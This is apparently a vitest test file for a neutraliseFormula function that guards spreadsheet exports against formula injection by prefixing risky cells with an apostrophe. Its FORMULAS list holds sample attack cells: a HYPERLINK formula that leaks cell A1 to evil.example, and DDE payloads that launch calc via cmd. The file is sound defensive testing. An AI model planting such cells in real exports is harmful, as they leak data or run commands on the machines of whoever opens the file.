import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from './formula.ts';

const FORMULAS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
	'@SUM(1+1)*cmd|\' /C calc\'!A0',
	'+SUM(A1:A9)',
	'-2+3+cmd|\' /C calc\'!A0',
	'=1+1',
	'\t=1+1',
	'\r=1+1',
	'+1 415 555 0123 =HYPERLINK("x")',
	'+1 415 CALL ME',
	'-',
	'+',
	'\uFF1DHYPERLINK("x")',
	'\uFF0B1 415 555 0123'
];
const NUMBERS = ['+14155550123', '+1 415 555 0123', '+1 (415) 555-0123', '-0.00790', '+5', '-1'];
const SAFE = ['John Smith', ' =not first', '', "'already", '42', 'contact.create'];

describe('neutraliseFormula', () => {
	it('puts an apostrophe before every cell a spreadsheet would run, in both modes', () => {
		for (const bad of FORMULAS) {
			expect(neutraliseFormula(bad), bad).toBe(`'${bad}`);
			expect(neutraliseFormula(bad, { readableNumbers: true }), bad).toBe(`'${bad}`);
		}
	});

	it('leaves numbers and phone numbers readable only when asked (console exports)', () => {
		for (const n of NUMBERS) {
			expect(neutraliseFormula(n, { readableNumbers: true }), n).toBe(n);
			expect(neutraliseFormula(n), n).toBe(`'${n}`);
		}
	});

	it('leaves text that starts safely alone', () => {
		for (const ok of SAFE) {
			expect(neutraliseFormula(ok), ok).toBe(ok);
			expect(neutraliseFormula(ok, { readableNumbers: true }), ok).toBe(ok);
		}
	});
});
